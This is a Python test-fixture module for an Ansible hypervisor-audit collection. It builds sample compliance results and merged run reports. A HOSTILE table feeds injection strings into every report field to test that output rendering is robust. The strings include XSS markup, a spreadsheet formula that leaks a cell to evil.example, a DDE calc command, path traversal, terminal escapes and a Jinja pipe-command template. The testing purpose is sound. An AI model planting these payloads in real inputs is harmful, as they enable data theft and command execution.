# Copyright: (c) 2026, dwp.hypervisor contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes standards and subject-results documents of any size and shape, as assess returns them."""

from __future__ import annotations

import datetime as dt
from typing import Any

from ansible_collections.dwp.hypervisor.plugins.plugin_utils.assessment import rollup
from ansible_collections.dwp.hypervisor.plugins.plugin_utils.audit.run_report import merge
from ansible_collections.dwp.hypervisor.plugins.plugin_utils.standard.gold import GoldSetting
from ansible_collections.dwp.hypervisor.plugins.plugin_utils.standard.loader import SEVERITIES, Check, Measure, Standard

NOW = dt.datetime(2026, 11, 23, 17, 44, tzinfo=dt.timezone.utc)
RUN = {
    "id": "20261123T174400Z",
    "started": "2026-11-23T17:43:50Z",
    "finished": "2026-11-23T17:44:00Z",
    "mode": "audit",
    "collection": "1.0.0",
}
SECTION_SIZES = {"11.1": 3, "11.2": 10, "11.3": 10, "11.4": 13}
CSF = (["PR.AC-3"], ["PR.DS-2", "DE.AE-3"], ["DE.CM-7"])
# What a VM may be called by somebody who wants to get out of the report.
HOSTILE = {
    "html": "</title></style><script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": '" autofocus onfocus="alert(1)',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "traversal": "../../../../etc/cron.d/root",
    "newlines": "a\r\nb\nc",
    "nul": "a\x00b",
    "escape": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "bidi": "\u202egnp.exe\u2066",
    "astral": "\U0001f480\U0001d4d0\U00020000",
    "surrogate": "\ud800\udfff",
    "template": "{{ lookup('pipe', 'id') }}{% for x in y %}{#",
    "long": "A" * 65536,
    "cdata": "]]><x/>&#0;<!--",
}


def a_standard(checks_per_measure: int = 3) -> Standard:
    """All 36 measures with the same number of kvm checks each."""
    measures = {}
    for section, size in SECTION_SIZES.items():
        for number in range(1, size + 1):
            measure = a_measure(f"{section}.{number}", section, checks_per_measure)
            measures[measure.id] = measure
    gold = GoldSetting(
        name="gold_ssh_permit_root", type="str", default="no", floor={"equals": "no"}, floor_reason="",
        threshold_source="dwp", description="Whether root may log in", area="remote_access",
    )  # fmt: skip
    return Standard("SS-009", "2.0", measures, {gold.name: gold})


def a_measure(measure_id: str, section: str, checks: int) -> Measure:
    """A measure; its severity follows its number, its third check is supplementary."""
    severity = SEVERITIES[int(measure_id.split(".")[2]) % 4]
    return Measure(
        id=measure_id, title=f"Title of {measure_id}", text=f"The hypervisor must do what {measure_id} says.",
        section=section, obligation="advisory" if section == "11.3" else "must", severity=severity, kind="technical",
        role="remote_access",
        nist_csf=CSF[int(measure_id.split(".")[2]) % 3], nist_csf_2=["PR.AA-03"], cis_v8=["4.6"],
        interpretation=f"How {measure_id} is read.", limits={"kvm": "Only what the host shows."},
        checks=[a_check(measure_id, index, severity) for index in range(checks)],
    )  # fmt: skip


def a_check(measure_id: str, index: int, severity: str) -> Check:
    """A check of a measure; every third is tier 2."""
    return Check(
        id=f"kvm-{measure_id}-check-{index}", measure=measure_id, name=f"area.setting_{index}",
        title=f"Setting {index} of {measure_id} is as the gold configuration has it", platform="kvm",
        tier=2 if index % 3 == 2 else 1, obligation="must", severity=severity, evidence="host",
        probe="sshd -T -C user=root,host=<address>,addr=<address>", passes="the setting is no",
        fix="Set it to no in a drop-in that sorts first, test the file, and reload the service.", role="remote_access",
        setting="PermitRootLogin", data={},
    )  # fmt: skip


def a_subject(name: str = "kvm1", **changes: Any) -> dict[str, Any]:
    return {
        "id": f"{name}/4c4c4544-0051-3010-8052-b4c04f4e3132", "name": name, "slug": f"{name}-1a2b3c4d",
        "platform": "kvm", "kind": "host", "endpoint": name, "reachable": True,
        "product": "Debian GNU/Linux 12, libvirt 9.0.0, QEMU 7.2",
        "collected_at": "2026-11-23T17:43:58Z", "verdict": "compliant", "tags": {"supplier": "Example Ltd"},
        "score": {"before_exceptions": 1.0, "after_exceptions": 1.0}, "unreachable_reason": None, **changes,
    }  # fmt: skip


def a_result(check: Check, subject: str, **changes: Any) -> dict[str, Any]:
    """A passing result; `status` alone sets `measured` as well."""
    if "status" in changes:
        changes.setdefault("measured", changes["status"])
    return {
        "subject": subject, "measure": check.measure, "check": check.id, "name": check.name, "title": check.title,
        "platform": check.platform, "tier": check.tier, "obligation": check.obligation, "severity": check.severity,
        "measured": "pass", "status": "pass", "expected": "no", "actual": "no", "persistent": True, "message": "",
        "items": [], "items_total": 0, "exception": None, "attestation": None, "role": check.role,
        "threshold_source": "dwp",
        "probe": check.probe, "fix": check.fix,
        "disruption": {
            "restart": "sshd", "reboot": False, "maintenance": False, "vm_power": False, "lockout": 3,
            "rollback": "restore the file",
        },
        **changes,
    }  # fmt: skip


def a_document(
    standard: Standard,
    subject: dict[str, Any] | None = None,
    changes: dict[str, dict[str, Any]] | None = None,
    **parts: Any,
) -> dict[str, Any]:
    """A subject-results document. changes: check id, measure id or "*" -> keys of the result to set."""
    subject = subject or a_subject()
    results = []
    for check in standard.checks.values():
        wanted: dict[str, Any] = {}
        for key in ("*", check.measure, check.id):
            wanted.update((changes or {}).get(key, {}))
        results.append(a_result(check, subject["id"], **wanted))
    measures = [
        rollup.roll_up(measure, [found for found in results if found["measure"] == measure.id], subject["id"], False)
        for measure in standard.measures.values()
    ]
    subject = {**subject, "verdict": rollup.verdict(measures), "score": rollup.score(measures)}
    drift = [
        {"subject": subject["id"], "measure": found["measure"], "check": found["check"], "setting": "PermitRootLogin",
         "actual": found["actual"], "gold": found["expected"], "role": found["role"], "reboot": False, "lockout": 3}
        for found in results if found["measured"] == "fail"
    ]  # fmt: skip
    return {
        "schema": "dwp.hypervisor.subject-results/1", "subject": subject, "results": results, "measures": measures,
        "drift": drift, "gold": {"sha256": "a" * 64, "non_default": []},
        "exceptions": {"now_passing": [], "expired": [], "changed": [], "met": {}},
        "attestations": {"contradicted": [], "met": {}}, **parts,
    }  # fmt: skip


def every_status(standard: Standard, name: str = "kvm1") -> dict[str, Any]:
    """A document in which each status occurs, with items, an exception, an attestation and a hard-to-undo failure."""
    items = [
        {"id": f"vm-{n}", "status": "fail", "actual": {"label": None}, "message": "has no label"} for n in range(8)
    ]
    exception = {"id": "EX-7", "risk_ref": "RISK-0042", "expires_on": "2026-12-01"}
    attestation = {
        "id": "AT-3", "signed_by": "A. Owner", "accepted_by": "B. Auditor", "signed_on": "2026-10-01",
        "expires_on": "2027-09-30", "satisfied_by": None, "evidence": "Access review 2026-11",
    }  # fmt: skip
    changes = {
        "11.4.6": {"status": "fail", "actual": "yes", "message": "root can log in", "persistent": False},
        "kvm-11.2.1-check-0": {"status": "fail", "items": items, "items_total": 12, "actual": {"vm-0": None}},
        "11.1.2": {
            "status": "unknown",
            "actual": None,
            "persistent": None,
            "message": "/etc/sudoers: permission denied",
        },
        "11.1.3": {"status": "manual", "actual": None, "persistent": None, "message": "needs a signed statement"},
        "11.2.6": {
            "status": "excepted",
            "measured": "fail",
            "exception": exception,
            "actual": "yes",
            "message": "Excepted by EX-7 (RISK-0042) until 2026-12-01.",
        },
        "11.2.5": {
            "status": "attested",
            "measured": "manual",
            "attestation": attestation,
            "actual": None,
            "message": "Attested by A. Owner (AT-3) until 2027-09-30.",
        },
        "kvm-11.4.2-check-2": {"status": "unknown", "measured": "fail", "message": "Other items are unknown."},
        "11.3.9": {"status": "not_applicable", "message": "no image library on this host", "actual": []},
        "11.3.6": {"status": "not_evaluated", "actual": None},
        "kvm-11.4.8-check-1": {"threshold_source": "substitute: CIS 4.3", "expected": "at most 14", "actual": 3},
    }
    non_default = [
        {
            "name": "gold_ssh_permit_root",
            "value": "prohibit-password",
            "default": "no",
            "floor_ok": False,
            "threshold_source": "dwp",
        }
    ]
    return a_document(
        standard, a_subject(name), changes, gold={"sha256": "b" * 64, "non_default": non_default},
        exceptions={"now_passing": ["EX-1"], "expired": ["EX-2"], "changed": ["EX-3"], "met": {}},
    )  # fmt: skip


def a_run(standard: Standard, documents: list[dict[str, Any]] | None = None, **options: Any) -> dict[str, Any]:
    """The merged run document."""
    found = [every_status(standard)] if documents is None else documents
    return merge(found, standard=standard, run=RUN, **options)


def hostile_run(standard: Standard, **options: Any) -> dict[str, Any]:
    """Hostile text in every place that a target, an inventory or a register can reach."""
    documents = []
    for number, (kind, text) in enumerate(HOSTILE.items()):
        item = {"id": text, "status": "fail", "actual": {text: text}, "message": text}
        exception = {"id": text[:60], "risk_ref": text[:60], "expires_on": "2026-12-01"}
        changes = {
            "11.4.6": {
                "status": "fail",
                "actual": text,
                "expected": text,
                "message": text,
                "items": [item],
                "items_total": 1,
            },
            "11.2.6": {"status": "excepted", "measured": "fail", "exception": exception, "actual": {text: [text]}},
            "11.1.2": {"status": "unknown", "message": text, "probe": text, "fix": text},
        }
        subject = a_subject(
            text, id=f"{number}/{text}", slug=f"hostile-{kind}", endpoint=text, product=text, tags={text[:40]: text},
            reachable=kind != "html", unreachable_reason=text if kind == "html" else None,
        )  # fmt: skip
        gold = {"sha256": "c" * 64, "non_default": [
            {"name": "gold_banner", "value": text, "default": "", "floor_ok": True, "threshold_source": text},
        ]}  # fmt: skip
        documents.append(a_document(standard, subject, changes, gold=gold))
    texts = list(HOSTILE.values())
    return merge(
        documents, standard=standard, run=RUN, marking="</style><b>\"OFFICIAL\"", out_of_scope=texts,
        unreadable=[{"file": text, "reason": text} for text in texts], **options,
    )  # fmt: skip
